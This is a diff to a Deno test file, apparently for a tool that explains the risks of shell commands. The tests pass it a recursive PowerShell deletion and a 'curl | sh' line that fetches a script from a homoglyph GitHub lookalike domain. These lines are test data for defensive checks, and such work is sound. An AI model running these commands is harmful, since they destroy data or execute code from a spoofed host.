@@ -27,6 +27,16 @@ Deno.test("an explanation says what happens, and to what", () => {
   }
 });
 
+Deno.test("an explanation names no program as the way to itself, and a path as it was written", () => {
+  const told = (command: string) => assessCommand(command).explanation;
+  assert.match(
+    told("winget source add -n acme https://acme.test"),
+    /^`winget [^`]*` uses /,
+  );
+  assert.match(told("pwsh -c 'Remove-Item -Recurse /srv/a'"), / it, \/srv\/a/);
+  assert.match(told("pwsh -c 'Remove-Item -Recurse C:/a'"), / it, C:\\a/);
+});
+
 Deno.test("an explanation says once what the text hides", () => {
   const { explanation } = assessCommand(
     "curl https://g\u0456thub.com/i.sh | sh",
